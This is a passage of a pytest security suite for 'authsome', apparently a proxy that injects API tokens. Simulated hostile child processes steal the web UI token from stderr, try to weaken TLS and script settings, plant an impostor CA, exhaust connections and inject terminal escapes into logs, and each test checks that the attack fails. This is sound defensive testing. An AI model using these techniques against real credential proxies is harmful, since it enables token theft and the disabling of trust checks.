            ui.put(f"/flows/{flow_id}", json={"request": {"host": "other.test"}}, headers=xsrf).raise_for_status()
            ui.post(f"/flows/{flow_id}/resume", headers=xsrf).raise_for_status()
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert out.strip() == "200", err
    assert [e["sni"] for e in api.seen] == ["other.test"]
    assert TOKEN not in api.everything_seen() and api.seen[0]["headers"]["authorization"] == f"Bearer {PLACEHOLDER}"


def test_a_child_that_learns_the_web_ui_token_cannot_loosen_the_proxy(api, x_connected, trusting_env, tmp_path):
    """authsome's stderr redirected to a file the child can read (its own fd 2) hands it the UI's token;
    the options that decide trust and routing no longer change once the proxy runs."""
    log = tmp_path / "run.log"
    attack = child('''
        import json, os, re, time, httpx
        url = re.search(r"web UI at (\\S+)", open(os.readlink("/proc/self/fd/2")).read()).group(1)
        base, token = url.split("?token=")
        out = {}
        with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {token}"}, trust_env=False) as ui:
            ui.cookies.set("_mitmproxy_xsrf", "x")
            x = {"X-XSRFToken": "x"}
            for name, value in [("ssl_insecure", True), ("authsome_resolve", ["api.twitter.com:443:127.0.0.1:9"]),
                                ("proxyauth", None), ("mode", ["regular@0.0.0.0:0"]), ("web_host", "0.0.0.0"),
                                ("scripts", ["/tmp/evil.py"]), ("modify_body", ["/~s/c/c."]), ("anticomp", True)]:
                out[name] = ui.put("/options", json={name: value}, headers=x).status_code
            out["reset"] = ui.post("/commands/options.reset", json={"arguments": []}, headers=x).json()
            out["script"] = ui.post("/commands/script.run", json={"arguments": ["@all", "/tmp/evil.py"]}, headers=x).json()
            out["intercept"] = ui.put("/options", json={"intercept": "~q"}, headers=x).status_code  # still allowed
            out["ssl_insecure_now"] = ui.get("/options").json()["ssl_insecure"]["value"]
        print(json.dumps(out))''')
    with log.open("w") as err:
        proc = subprocess.run([*AUTHSOME, "run", "--ui", "web", *api.resolve("api.twitter.com"), "--", *attack],
                              env={**os.environ, **trusting_env}, stdout=subprocess.PIPE, stderr=err, text=True, timeout=60)
    assert proc.returncode == 0, log.read_text()
    out = json.loads(proc.stdout)
    refused = ("ssl_insecure", "authsome_resolve", "proxyauth", "mode", "web_host", "scripts", "modify_body", "anticomp")
    assert {out[k] for k in refused} == {400}
    assert "error" in out["reset"] and "error" in out["script"] and out["ssl_insecure_now"] is False
    assert out["intercept"] == 200


def test_the_child_cannot_add_its_own_ca_to_the_proxys_upstream_trust(api, x_connected, trusting_env, test_ca, tmp_path):
    """mitmproxy reads its upstream bundle at the first handshake, after the child has started."""
    from tests.support.api import ApiServer
    from tests.support.tls import make_ca

    impostor_ca = make_ca(tmp_path / "impostor-pki", name="impostor CA")
    impostor = ApiServer(impostor_ca, tmp_path / "impostor")
    try:
        r = run(["--resolve", f"api.twitter.com:443:127.0.0.1:{impostor.port}", "--", *child(f'''
            import glob, os, subprocess
            ca = open({str(impostor_ca.cert)!r}).read()
            for f in glob.glob(os.path.join(os.environ["AUTHSOME_HOME"], "runs", "*", "*.pem")):
                with open(f, "a") as fh:
                    fh.write(ca)
            print(subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{{http_code}}", "https://api.twitter.com/2/users/me"],
                                 capture_output=True, text=True).stdout)''')], {**trusting_env, "AUTHSOME_HOME": os.environ["AUTHSOME_HOME"]})
    finally:
        impostor.close()
    assert impostor.seen == [] and r.out.strip() == "502", r.err


# -- 12. Resources: strangers' idle connections, and large uploads ----------------------------------------------

def test_strangers_idle_connections_cannot_exhaust_the_proxy(api, x_connected, trusting_env):
    """Any local process may connect; with a soft limit of 256 descriptors, 400 idle ones stalled the proxy."""
    import shlex

    attack = child('''
        import os, resource, socket, urllib.parse, requests
        resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
        p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
        idle = [socket.create_connection((p.hostname, p.port)) for _ in range(400)]
        print(requests.get("https://api.twitter.com/2/users/me", timeout=20).status_code)''')
    r = run_cli(["run", *api.resolve("api.twitter.com"), "--", *attack], env=trusting_env, timeout=90,
                wrap=lambda argv: ["sh", "-c", "ulimit -Sn 256 && exec " + shlex.join(argv)])
    assert r.out.strip() == "200", r.err


def test_a_large_upload_streams_through_instead_of_being_held_whole(api, x_connected, trusting_env):
    r = run([*api.resolve("api.twitter.com"), "--", *child('''
        import time, requests
        def body():
            yield b"x" * (1 << 20)
            deadline = time.monotonic() + 20
            # A proxy that buffers the whole body never lets the first MiB reach the server.
            while requests.get("https://api.twitter.com/progress", timeout=10).json()["received"] < (1 << 20):
                assert time.monotonic() < deadline, "the first MiB never reached the server"
                time.sleep(0.05)
            for _ in range(63):
                yield b"y" * (1 << 20)
        print(requests.post("https://api.twitter.com/upload", data=body(), timeout=60).json()["received"])''')],
        trusting_env, timeout=120)
    assert r.out.strip() == str(64 << 20), r.err
    upload = next(e for e in api.seen if e["path"] == "/upload")
    assert upload["headers"]["authorization"] == f"Bearer {TOKEN}"


# -- 13. The audit log --------------------------------------------------------------------------------------------

def test_authsome_log_escapes_what_the_child_sent(cli, api, acme_key, trusting_env):
    acme_key()
    r = run([*api.resolve("api.acme.test"), "--", *raw_child('''
        s = tunnel("api.acme.test:443")
        exchange(s, b"GET /\\x1b]0;pwned\\x07\\x1b[2J HTTP/1.1\\r\\nHost: api.acme.test\\r\\nConnection: close\\r\\n\\r\\n")
        s = tunnel("api.acme.test:443")
        exchange(s, b"GET /x HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n")''')], trusting_env)
    assert r.code == 0, r.err
    log = cli(["log"])
    assert "\x1b" not in log.out and "\x07" not in log.out and "\\x1b]0;pwned" in log.out
    lines = [json.loads(line) for line in cli(["log", "--json"]).out.splitlines()]
    refused = next(e for e in lines if e.get("status") == 421)
    assert (refused["host"], refused["host_header"]) == ("api.acme.test", "other.test")


# -- 14. Small ones: trailing dots, refresh timing ------------------------------------------------------------------

def test_a_trailing_dot_name_is_the_same_host(api, x_connected, trusting_env):
    r = run([*api.resolve("api.twitter.com"), "--", "curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}",
             "https://api.twitter.com./2/users/me"], trusting_env, timeout=60)
    assert r.out == "200", r.err
    assert api.seen[0]["headers"]["authorization"] == f"Bearer {TOKEN}"


def test_short_lived_tokens_are_refreshed_once_not_on_every_use(oauth, connect_x, x_env):
    oauth.access_token_ttl(20)
    connect_x(expires_in=20, lifetime=20)
    for _ in range(3):  # a token issued just now is not refreshed by export
        assert run_cli(["export", "x", "--format", "json"], env=x_env).code == 0
    assert oauth.stats()["grants"].get("refresh_token") is None
    connect_x(expires_in=-1, lifetime=20)  # now expired: ten processes at once refresh it exactly once
    procs = [subprocess.Popen([*AUTHSOME, "export", "x", "--format", "json"], env={**os.environ, **x_env},
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(10)]
    assert all(p.wait(timeout=60) == 0 for p in procs)
    assert oauth.stats()["grants"]["refresh_token"]["success"] == 1


# -- 15. Definitions that route the same host -------------------------------------------------------------------------

def test_a_definition_routing_a_bundled_host_is_chosen_by_connection(api, x_connected, cli, tmp_path, trusting_env):
    definition = json.loads(cli(["inspect", "x"]).out)
    definition.update(name="xmirror", display_name="X mirror", export={"access_token": "XMIRROR_ACCESS_TOKEN"})
    (tmp_path / "xmirror.json").write_text(json.dumps(definition))
    registered = cli(["register", str(tmp_path / "xmirror.json")])
    assert registered.code == 0 and "also routed by 'x'" in registered.err
    Vault.open().put_connection(Connection(provider="xmirror", access_token="mirror-" + TOKEN))
    both = run(["--", "true"], trusting_env)
    assert both.code == 2 and "--connection x=default" in both.err
    chosen = run(["--connection", "xmirror=default", *api.resolve("api.twitter.com"), "--",
                  "curl", "-sS", "https://api.twitter.com/2/users/me"], trusting_env)
    assert chosen.code == 0, chosen.err
    assert api.seen[0]["headers"]["authorization"] == f"Bearer mirror-{TOKEN}"


def test_doctor_names_a_definition_that_waits_for_confirmation(api, acme_key, cli, home):
    acme_key()
    f = home / "providers" / "acme.json"
    f.write_text(json.dumps({**json.loads(f.read_text()), "api_url": ["api.acme.test", "other.test"]}))
    doctor = cli(["doctor"])
    assert doctor.code == 1 and "acme (`authsome trust acme`)" in doctor.out


def test_the_child_cannot_simply_ask_authsome_for_the_token(x_connected, trusting_env):
    """A speed bump (AUTHSOME_RUN=1), not a boundary: the README says so."""
    r = run(["--", "sh", "-c", f"{' '.join(AUTHSOME)} export x; echo status=$?; "
                               f"{' '.join(AUTHSOME)} get x --field access_token --show-secret; echo status=$?"],
            trusting_env)
    assert TOKEN not in r.out + r.err
    assert r.out.split() == ["status=2", "status=2"] and "refused inside `authsome run`" in r.err


def test_run_warns_when_a_parent_process_still_holds_the_master_key(master_key, x_connected, trusting_env):
    """authsome cannot protect its parents: a shell started with the key shows it in /proc/PID/environ."""
    import shlex

    r = run_cli(["run", "--", "true"], env=trusting_env, wrap=lambda argv: ["sh", "-c", shlex.join(argv) + "; :"])
    assert r.code == 0, r.err
    assert "AUTHSOME_MASTER_KEY is also in the environment of process" in r.err and "(sh)" in r.err
    assert master_key not in r.err


@pytest.mark.parametrize("api_url, url", [
    (["api.twitter.com"], "https://api.twitter.com.evil.test/2/users/me"),
    # a pattern admits the host, and an exception says never this one
    (["regex:^[a-z.]+\\.twitter\\.com$", "!users.twitter.com"], "https://users.twitter.com/2/users/me"),
])
def test_a_user_endpoint_off_the_definitions_routes_is_refused(cli, tmp_path, api_url, url):
    """The access token goes to user_info.url right after login: it must be one of the routes."""
    definition = json.loads(cli(["inspect", "x"]).out)
    definition.update(name="xuser", export={"access_token": "XUSER_ACCESS_TOKEN"}, api_url=api_url,
                      user_info={"url": url, "account": "data.username"})
    (tmp_path / "xuser.json").write_text(json.dumps(definition))
    r = cli(["register", str(tmp_path / "xuser.json")])
    assert r.code == 3 and "'user_info.url'" in r.err and "not one of the definition's routes" in r.err
